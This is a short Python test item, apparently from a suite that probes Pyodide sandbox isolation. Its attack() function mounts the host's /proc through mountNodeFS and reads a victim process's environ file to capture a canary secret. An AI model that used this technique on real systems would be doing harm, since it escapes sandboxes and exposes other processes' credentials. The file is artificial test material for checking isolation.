"""The environment of another process, in /proc.

id: F3
canary: secret
spoils: a mount
"""

import pyodide_js


def attack(target):
    pyodide_js.mountNodeFS("/h", "/proc")
    with open(f"/h/{target.victim}/environ") as file:
        return file.read()
